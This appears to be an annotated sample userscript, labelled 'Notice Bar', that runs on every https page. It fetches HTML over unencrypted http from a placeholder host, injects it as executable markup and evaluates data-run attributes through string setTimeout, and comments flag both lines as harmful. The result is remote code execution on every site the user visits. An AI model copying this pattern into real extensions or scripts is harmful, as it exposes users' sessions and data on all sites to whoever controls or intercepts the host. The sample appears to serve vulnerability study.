// ==UserScript==
// @name         Notice Bar
// @namespace    notice.example
// @version      1.1
// @description  Shows news of this script's author in a bar
// @match        https://*/*
// @grant        GM_xmlhttpRequest
// ==/UserScript==

var NoticeBar = {
	url: "http://news.noticebar.test/latest.html",
	box: null,
	init: function () {
		this.box = document.createElement("div");
		this.box.id = "notice-bar";
		document.body.insertBefore(this.box, document.body.firstChild);
		this.load();
	},
	load: function () {
		GM_xmlhttpRequest({ method: "GET", url: this.url, onload: this.show.bind(this) });
	},
	show: function (reply) {
		var part = document.createRange().createContextualFragment(reply.responseText);
		this.box.appendChild(part); //! harm
		this.box.querySelectorAll("[data-run]").forEach(function (el) {
			setTimeout(el.getAttribute("data-run"), 100); //! harm
		});
	},
};
NoticeBar.init();
